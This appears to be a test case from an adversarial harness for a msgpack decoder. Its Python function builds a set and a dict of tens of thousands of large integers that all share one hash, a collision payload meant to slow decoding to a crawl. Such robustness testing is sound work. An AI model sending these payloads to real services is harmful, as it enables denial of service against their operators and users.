"""intent: a set and a dict of big numbers that have all one hash: 2**61 - 1 times anything
criterion: time
"""

def on_call(name, arguments):
    prime = (1 << 61) - 1
    items = b"".join(msgpack.packb(msgpack.ExtType(4, (prime * (k + 1) << 61).to_bytes(20, "big", signed=True))) for k in range(45000))
    pairs = b"".join(msgpack.packb(msgpack.ExtType(4, (prime * (k + 1) << 61).to_bytes(20, "big", signed=True))) + b"\xc0" for k in range(40000))
    reply([b"\xc7\x00\x02" [:0] + extension(2, b"\xdd" + (45000).to_bytes(4, "big") + items), b"\xdf" + (40000).to_bytes(4, "big") + pairs])
